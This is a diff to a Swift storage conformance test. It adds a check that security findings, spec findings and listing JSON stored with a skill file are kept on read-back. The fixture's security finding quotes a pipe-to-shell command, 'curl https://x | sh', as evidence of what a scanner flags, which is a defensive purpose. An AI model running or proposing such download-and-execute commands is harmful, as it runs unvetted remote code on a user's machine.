@@ -32,6 +32,27 @@ public enum StoreConformance {
         #expect(rules[0].section == ["Code review", "Rules"])
     }
 
+    /// The checks stored with a file (spec findings, security report) and the listing record it came from.
+    public static func checksAndListingsAreKept(_ store: any Store) throws {
+        var record = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
+        let finding = SecurityReport.Finding(
+            category: .pipeToShell, level: .fail, message: "pipes a download into a shell", line: 9,
+            evidence: "curl https://x | sh")
+        record.security = SecurityReport(findings: [finding])
+        record.findings = [Finding(code: "client-extension", severity: .warning, message: "m", line: 3)]
+        record.listingJSON = #"{"id":"x","unknown":{"kept":true}}"#
+        _ = try store.write(repositories: [], files: [record], seenAt: seenAt)
+        let file = try #require(try store.file(.key(record.key)))
+        #expect(file.security == record.security)
+        #expect(file.security.verdict == .fail)
+        #expect(file.findings == record.findings)
+        #expect(file.listingJSON == record.listingJSON)
+        let plain = Fixtures.record("acme/skills", "AGENTS.md", Fixtures.agentsFile)
+        _ = try store.write(repositories: [], files: [plain], seenAt: seenAt)
+        let other = try #require(try store.file(.key(plain.key)))
+        #expect(other.security.verdict == .pass && other.listingJSON == nil)
+    }
+
     public static func rewritingUnchangedFilesWritesNothing(_ store: any Store) throws {
         let record = Fixtures.record("acme/skills", "review/SKILL.md", Fixtures.reviewSkill)
         _ = try store.write(repositories: [], files: [record], seenAt: seenAt)
